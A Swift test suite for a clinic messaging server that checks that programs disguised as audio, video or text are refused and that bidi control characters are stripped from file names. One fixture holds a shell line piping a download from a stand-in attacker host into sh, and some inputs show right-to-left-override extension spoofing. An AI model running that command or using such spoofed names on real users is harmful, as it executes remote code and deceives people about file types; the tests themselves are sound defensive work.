import CurlHTTP
import Foundation
import InboxModel
@testable import InboxServer
import Testing

/// Programs dressed as media, and file names that hide their real extension.
@Suite("Media content: every type checked by its bytes, programs refused, bidi stripped from names")
struct MediaContentTests {
    /// A real Linux program: the first 4 KiB of /bin/ls.
    static let elf: [UInt8] = Array((FileManager.default.contents(atPath: "/bin/ls") ?? Data([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1])).prefix(4096))
    /// A Windows program's DOS stub and PE header.
    static let pe: [UInt8] = {
        var bytes = Array("MZ".utf8) + [0x90, 0x00, 0x03] + Array(repeating: 0, count: 0x3C - 5) + [0x80, 0, 0, 0]
        bytes += Array("This program cannot be run in DOS mode.\r\r\n$".utf8)
        bytes += Array(repeating: 0, count: 0x80 - bytes.count) + Array("PE".utf8) + [0, 0, 0x64, 0x86]
        return bytes + Array(repeating: 0, count: 256)
    }()
    static let script: [UInt8] = Array("#!/bin/sh\ncurl -s http://evil.example/x | sh\n".utf8)
    static let machO: [UInt8] = [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01] + Array(repeating: 0, count: 64)
    static let programs: [(String, [UInt8])] = [("ELF", elf), ("PE", pe), ("script", script), ("Mach-O", machO)]

    /// Genuine files of the audio types that have no single magic number.
    static let genuine: [(String, [UInt8])] = [
        ("audio/mpeg", Array("ID3".utf8) + [4, 0, 0, 0, 0, 0, 0] + [0xFF, 0xFB, 0x90, 0x64] + Array(repeating: 0x55, count: 400)),
        ("audio/mpeg", [0xFF, 0xFB, 0x90, 0x64] + Array(repeating: 0x55, count: 400)),
        ("audio/aac", [0xFF, 0xF1, 0x50, 0x80, 0x2F, 0xFF, 0xFC] + Array(repeating: 0x21, count: 400)),
        ("audio/amr", Array("#!AMR\n".utf8) + [0x3C] + Array(repeating: 0x48, count: 31)),
        ("audio/ogg", Array("OggS".utf8) + [0, 2] + Array(repeating: 0, count: 100)),
        ("video/mp4", [0, 0, 0, 0x18] + Array("ftypmp42".utf8) + Array(repeating: 0, count: 100)),
        ("text/plain", Array("Dear doctor, the pain started on Monday.\n".utf8)),
        ("text/plain", Array("MZ-1042 is my order number, not a program.\n".utf8)),
    ]

    @Test("uploads: ELF, PE, Mach-O and a shell script under every allowed type → 415, nothing on disk; genuine audio → 201")
    func uploads() async throws {
        let server = try await TestServer.start()
        defer { Task { await server.stop() } }
        let agent = try await server.addClinic("Sunrise", number: "+15550001111")[0]
        let directory = MediaFiles.defaultDirectory(forDatabase: server.dbPath)
        #expect(MediaTypes.allowed.count >= 19)
        for type in MediaTypes.allowed.sorted() {
            for (name, bytes) in Self.programs {
                let response = try await MediaTests.upload(server, token: agent.token, bytes: bytes, type: type)
                #expect(response.status == 415, "\(name) as \(type)")
            }
        }
        #expect((try FileManager.default.subpathsOfDirectory(atPath: directory)).isEmpty, "nothing refused is on disk")
        // Positive control: the same route keeps genuine files of each audio format.
        for (type, bytes) in Self.genuine {
            #expect(try await MediaTests.upload(server, token: agent.token, bytes: bytes, type: type).status == 201, "\(type)")
        }
    }

    @Test("patients' files: programs claiming to be audio, video or text are refused with the reason and never kept")
    func fetched() async throws {
        let (server, twilio, agent) = try await MediaTests.twilioClinic()
        defer { Task { await server.stop(); await twilio.stop() } }
        let types = ["audio/mpeg", "audio/aac", "audio/amr", "audio/ogg", "video/mp4", "text/plain", "application/pdf"]
        var sids: [String] = []
        for type in types {
            for (name, bytes) in Self.programs {
                let file = "\(name)-\(type.replacingOccurrences(of: "/", with: "-"))"
                twilio.shelf.put(file, contentType: type, bytes: bytes)
                let sid = "SM\(sids.count)"
                sids.append(sid)
                _ = try await server.twilioWebhook(MediaTests.inboundWithMedia(sid, url: twilio.baseURL + "/media/" + file, type: type))
            }
        }
        // Positive control: a genuine MP3 through the same path is kept.
        twilio.shelf.put("song", contentType: "audio/mpeg", bytes: Self.genuine[0].1)
        _ = try await server.twilioWebhook(MediaTests.inboundWithMedia("SMgood", url: twilio.baseURL + "/media/song", type: "audio/mpeg"))
        #expect(try await eventually(timeout: .seconds(30)) {
            let media = try await server.everything(token: agent.token).messages.compactMap(\.media)
            return media.count == sids.count + 1 && media.allSatisfy { $0.state != .pending }
        })
        let messages = try await server.everything(token: agent.token).messages
        #expect(messages.first { $0.providerMessageId == "SMgood" }?.media?.state == .stored)
        for sid in sids {
            let media = try #require(messages.first { $0.providerMessageId == sid }?.media)
            #expect(media.state == .refused, "\(sid)")
            #expect(media.error?.contains("is a program") == true, "\(sid): \(media.error ?? "")")
        }
        let kept = try FileManager.default.subpathsOfDirectory(atPath: MediaFiles.defaultDirectory(forDatabase: server.dbPath))
            .filter { $0.contains("/") }
        #expect(kept == [String(Hashing.sha256Hex(Self.genuine[0].1).prefix(2)) + "/" + Hashing.sha256Hex(Self.genuine[0].1)])
    }

    @Test("bidi controls are stripped from the names of patients' files and agents' attachments")
    func bidiNames() async throws {
        let meta = try await FakeMeta.start()
        let server = try await TestServer.start { TestServer.providers(&$0, meta: meta) }
        defer { Task { await server.stop(); await meta.stop() } }
        let agent = try await server.addClinic("Sunrise", number: MetaPayload.clinicNumber, provider: .meta,
                                               providerRef: MetaPayload.phoneNumberId)[0]
        let hidden = "invoice\u{202E}fdp.exe\u{2066}\u{200F}\u{061C}"
        let document = MetaPayload.message("wamid.doc", from: "16505551234", type: "document",
                                           ["document": ["id": "2001", "mime_type": "application/pdf", "filename": hidden]])
        #expect(try await server.metaWebhook(MetaPayload.webhook([MetaPayload.value(messages: [document])])).status == 200)
        let conversation = try #require(try await server.everything(token: agent.token).conversations.first)

        let uploaded = try await MediaTests.upload(server, token: agent.token, bytes: SampleFiles.pdf, type: "application/pdf")
        let upload = try JSONDecoder().decode(UploadedMedia.self, from: Data(uploaded.body))
        let send = MediaSend(uploadId: upload.uploadId, fileName: "report\u{202E}fdp.exe")
        #expect(try await server.command(.sendMedia(send), conversation: conversation.id, token: agent.token).status == 200)

        let messages = try await server.everything(token: agent.token).messages
        #expect(messages.first { $0.providerMessageId == "wamid.doc" }?.media?.fileName == "invoicefdp.exe")
        #expect(messages.first { $0.direction == .outbound }?.media?.fileName == "reportfdp.exe")
        #expect(FileTypes.safeFileName("a\u{202A}b\u{202B}c\u{202C}d\u{202D}e\u{2067}f\u{2068}g\u{2069}h\u{200E}i") == "abcdefghi")
    }
}
